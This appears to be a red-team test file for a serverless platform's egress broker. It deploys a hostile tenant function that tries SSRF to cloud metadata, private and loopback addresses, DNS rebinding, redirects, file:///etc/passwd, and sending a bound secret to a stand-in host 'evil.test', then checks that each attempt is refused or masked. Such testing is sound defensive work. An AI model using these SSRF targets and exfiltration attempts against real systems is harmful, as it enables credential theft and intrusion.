// Red team, egress abuse: a function granted egress to one partner API tries to reach everything
// else — cloud metadata, the operator's private network, host loopback, hosts outside its
// allowlist, a DNS name that resolves to a private address, a redirect into the private network —
// and tries to get a tenant secret (stored through the real secrets API) sent to a host it is not
// bound to, or echoed back into its result. The broker's resolver is injected (test names resolve
// to 127.0.0.1 or to private addresses); its connector really connects, but only to the partner
// server this test runs on 127.0.0.1, and records every connection it is asked for: each refusal is
// proven to happen before any connection.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { httpConnector } from '../../src/egress/transport.js';
import type { Connector } from '../../src/egress/transport.js';
import { deploy, invoke, startTestServer } from '../support/server.js';
import type { TestServer } from '../support/server.js';
import { startHttpServer, tableResolver } from '../egress/support.js';
import type { TestHttpServer } from '../egress/support.js';

const SECRET = `sk-redteam-${process.pid}-${Date.now()}`;

describe('red team: egress', () => {
  let api: TestServer;
  let partner: TestHttpServer;
  const connections: string[] = [];
  const seenByPartner: string[] = [];
  let policy: { allow: { host: string; ports: number[] }[] };
  let stored = '';
  let bigServed = 0;

  before(async () => {
    partner = await startHttpServer((req, res, body) => {
      seenByPartner.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body.toString()}`);
      if (req.url === '/to-metadata') {
        res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/iam/' });
        return void res.end();
      }
      if (req.url === '/to-internal') {
        res.writeHead(307, { location: `http://internal.corp.test:${partner.port}/admin` });
        return void res.end();
      }
      if (req.url === '/big') {
        bigServed++;
        return void res.end(Buffer.alloc(64 * 1024, 'b'));
      }
      if (req.url === '/echo-auth') return void res.end(`you sent: ${req.headers.authorization ?? ''}`);
      // A partner that keeps what it was sent and hands it back later (a profile, a stored note).
      if (req.url === '/store') {
        stored = req.headers.authorization ?? '';
        return void res.end('stored');
      }
      if (req.url === '/recall') {
        res.setHeader('x-recalled', stored);
        return void res.end(`you sent earlier: ${stored}`);
      }
      res.end('partner ok');
    });
    const real = httpConnector();
    const connector: Connector = (req) => {
      connections.push(`${req.target.host}@${req.address.address}`);
      // Only the partner on 127.0.0.1 is ever contacted; anything else fails loudly.
      if (req.address.address !== '127.0.0.1' || req.target.port !== partner.port) {
        assert.fail(`a connection to ${req.address.address}:${req.target.port} (${req.target.host}) was attempted`);
      }
      return real(req);
    };
    const resolver = tableResolver({
      'api.partner.test': ['127.0.0.1'],
      'evil.test': ['127.0.0.1'],
      'internal.corp.test': ['10.1.2.3'],
      'rebind.partner.test': ['127.0.0.1', '169.254.169.254'],
    });
    // The operator allows exactly the partner's address; nothing else private.
    api = await startTestServer({ AIRLOCK_EGRESS_ALLOW_CIDRS: '127.0.0.1/32' }, { egressResolver: resolver, egressConnector: connector });
    policy = {
      allow: [
        { host: 'api.partner.test', ports: [partner.port] },
        { host: 'rebind.partner.test', ports: [partner.port] },
        { host: 'internal.corp.test', ports: [partner.port] },
      ],
    };
    const put = await api.request('PUT', '/v1/tenants/mallory/secrets/partner-token', { value: SECRET, hosts: ['api.partner.test'] });
    assert.equal(put.status, 201, JSON.stringify(put.body));
    await deploy(api, 'mallory', 'ssrf', `export default async (input) => {
      try {
        const res = await fetch(input.url, input.init);
        return { ok: true, status: res.status, body: await res.text() };
      } catch (err) {
        return { ok: false, code: err.code, message: String(err.message) };
      }
    };`, { egress: policy });
  });

  after(async () => {
    await api?.close();
    await partner?.close();
  });

  /** Runs one request from the sandbox; a refused one must have made `connected` connections (0: refused up front). */
  async function attempt(
    url: string,
    init?: Record<string, unknown>,
    connected = 0,
  ): Promise<{ ok: boolean; code?: string; status?: number; body?: string; message?: string }> {
    const before = connections.length;
    const res = await invoke(api, 'mallory', 'ssrf', { url, init });
    assert.equal(res.body.status, 'succeeded', JSON.stringify(res.body));
    const out = res.body.result as { ok: boolean; code?: string };
    if (!out.ok) assert.equal(connections.length - before, connected, `connections made for a refused request (${url})`);
    return out;
  }

  it('the granted partner host works (the baseline the refusals are measured against)', async () => {
    const out = await attempt(`http://api.partner.test:${partner.port}/hello`);
    assert.deepEqual([out.ok, out.status, out.body], [true, 200, 'partner ok']);
  });

  const refused: [string, (port: number) => string][] = [
    ['cloud metadata by literal address', () => 'http://169.254.169.254/latest/meta-data/'],
    ['IPv6 metadata', () => 'http://[fd00:ec2::254]/latest/meta-data/'],
    ['host loopback by literal address (not on the allowlist)', (p) => `http://127.0.0.1:${p}/hello`],
    ['a private range by literal address', () => 'http://10.0.0.1/'],
    ['metadata hidden in an IPv4-mapped IPv6 address', () => 'http://[::ffff:169.254.169.254]/'],
    ['a host outside the allowlist', (p) => `http://evil.test:${p}/`],
    ['an allowed name that resolves into the private network', (p) => `http://internal.corp.test:${p}/admin`],
    ['an allowed name that also resolves to metadata (mixed answer)', (p) => `http://rebind.partner.test:${p}/`],
    ['the allowed host on a port it was not granted', () => 'http://api.partner.test:22/'],
    ['a non-HTTP scheme', () => 'file:///etc/passwd'],
  ];
  for (const [what, url] of refused) {
    it(`refuses ${what} before any connection`, async () => {
      const out = await attempt(url(partner.port));
      assert.equal(out.ok, false, JSON.stringify(out));
      assert.match(out.code ?? '', /^EGRESS_(DENIED|FAILED)$/);
    });
  }

  it('a redirect from the partner into metadata or the private network is refused at the hop', async () => {
    for (const path of ['/to-metadata', '/to-internal']) {
      // only the first hop, to the partner, connects
      const out = await attempt(`http://api.partner.test:${partner.port}${path}`, undefined, 1);
      assert.equal(out.ok, false, JSON.stringify(out));
      assert.equal(out.code, 'EGRESS_DENIED');
    }
  });

  it('a secret bound to the partner is never sent to another host, and never reaches the sandbox', async () => {
    const seen = seenByPartner.length;
    // to a host the secret is not bound to: refused before any connection
    const wrongHost = await attempt(`http://evil.test:${partner.port}/`, { headers: { authorization: 'Bearer {{secrets.partner-token}}' } });
    assert.equal(wrongHost.ok, false);
    assert.equal(wrongHost.code, 'EGRESS_DENIED');
    // to the bound host: substituted on the host, and the echo comes back masked
    const echoed = await attempt(`http://api.partner.test:${partner.port}/echo-auth`, { headers: { authorization: 'Bearer {{secrets.partner-token}}' } });
    assert.equal(echoed.ok, true);
    assert.ok(!JSON.stringify(echoed).includes(SECRET), 'the secret value never reaches the sandbox');
    assert.match(echoed.body ?? '', /\[secret:partner-token\]/);
    assert.ok(seenByPartner.slice(seen).some((line) => line.includes(SECRET)), 'the partner did receive the real value');
    // a secret that does not exist is refused, not sent as a literal placeholder
    const unknown = await attempt(`http://api.partner.test:${partner.port}/`, { headers: { authorization: 'Bearer {{secrets.nope}}' } });
    assert.equal(unknown.ok, false);
  });

  // Found by this suite: only the answer to a request that itself carried a secret was masked, so
  // a partner that kept the value and returned it to a later request without a placeholder (in the
  // same execution or a later one) handed it to the sandbox. The function returns what it read
  // reversed, which the masking of results cannot recognize: only masking at the broker helps.
  it('a secret a partner keeps and hands back to a later request without a placeholder reaches the sandbox masked', async () => {
    await deploy(api, 'mallory', 'recall', `export default async (input) => {
      const base = 'http://api.partner.test:' + input.port;
      if (input.store) await fetch(base + '/store', { headers: { authorization: 'Bearer {{secrets.partner-token}}' } });
      const res = await fetch(base + '/recall');
      const seen = res.headers.get('x-recalled') + ' | ' + (await res.text());
      return seen.split('').reverse().join('');
    };`, { egress: policy });
    const reversed = (text: string) => text.split('').reverse().join('');
    for (const store of [true, false]) {
      stored = '';
      if (!store) {
        // a later execution: the partner still holds the value from an earlier one
        const first = await invoke(api, 'mallory', 'recall', { port: partner.port, store: true });
        assert.equal(first.body.status, 'succeeded', JSON.stringify(first.body));
      }
      const res = await invoke(api, 'mallory', 'recall', { port: partner.port, store });
      assert.equal(res.body.status, 'succeeded', JSON.stringify(res.body));
      const seen = reversed(res.body.result as string);
      assert.equal(stored, `Bearer ${SECRET}`, 'the control: the partner holds the real value');
      assert.ok(!seen.includes(SECRET), `the sandbox read the secret (${store ? 'same execution' : 'a later execution'}): ${seen}`);
      assert.equal(seen, 'Bearer [secret:partner-token] | you sent earlier: Bearer [secret:partner-token]');
    }
  });

  // Found by this suite: a request stopped counting toward the 16 in flight once its answer was
  // handed to the channel, read or not, so a sandbox that wrote fetch frames and never read its
  // channel had the host fetch on and keep every answer in its own memory (all its requests'
  // worth). An answer now holds its place until the sandbox has taken it off the channel.
  it('a sandbox that sends fetch frames and never reads the answers is stopped at 16 unread answers', async () => {
    await deploy(api, 'mallory', 'no-reader', `import { writeSync } from 'node:fs';
      export default async (input, ctx) => {
        const pause = new Int32Array(new SharedArrayBuffer(4));
        const end = Date.now() + 4000;
        let sent = 0;
        // Never yields to the event loop, so the harness never reads fd 3.
        for (let rid = 1_000_000; rid < 1_000_000 + input.count && Date.now() < end; rid++) {
          const body = Buffer.from(JSON.stringify({ t: 'fetch', id: ctx.executionId, rid, method: 'GET', url: input.url, headers: [] }));
          const head = Buffer.alloc(4); head.writeUInt32BE(body.length);
          try { writeSync(3, Buffer.concat([head, body])); } catch (e) { return 'CUT OFF: ' + e.code; }
          sent++;
          Atomics.wait(pause, 0, 0, 25);
        }
        return 'SENT ' + sent;
      };`, { egress: { allow: [{ host: 'api.partner.test', ports: [partner.port] }], limits: { requests: 200 } }, limits: { timeoutMs: 10_000 } });
    bigServed = 0;
    const res = await invoke(api, 'mallory', 'no-reader', { url: `http://api.partner.test:${partner.port}/big`, count: 120 });
    assert.equal(res.body.status, 'killed', JSON.stringify(res.body).slice(0, 500));
    assert.equal(res.body.error?.type, 'SandboxProtocolError');
    assert.match(res.body.error?.message ?? '', /beyond the 16 requests in flight/);
    // 16 places, and the few answers (~87 KiB of frame each) the kernel's socket buffer took off the host.
    const socketBuffer = Number(readFileSync('/proc/sys/net/core/wmem_default', 'utf8'));
    const most = 16 + Math.ceil(socketBuffer / (87 * 1024)) + 2;
    assert.ok(bigServed >= 16 && bigServed <= most, `the partner served ${bigServed} requests to a sandbox that read none (at most ${most})`);
  });

  it('a function without an egress grant has no broker at all', async () => {
    await deploy(api, 'mallory', 'no-grant', `export default async (input, ctx) => {
      let error = null;
      try { await fetch(input.url); } catch (err) { error = String(err.cause?.code ?? err.code ?? err.message); }
      return { hasCtxFetch: typeof ctx.fetch, error };
    };`);
    const before = connections.length;
    const res = await invoke(api, 'mallory', 'no-grant', { url: `http://127.0.0.1:${partner.port}/hello` });
    assert.equal(res.body.status, 'succeeded', JSON.stringify(res.body));
    const out = res.body.result as { hasCtxFetch: string; error: string | null };
    assert.equal(out.hasCtxFetch, 'undefined');
    assert.notEqual(out.error, null, 'the plain fetch failed');
    assert.equal(connections.length, before, 'the broker was never asked');
  });
});
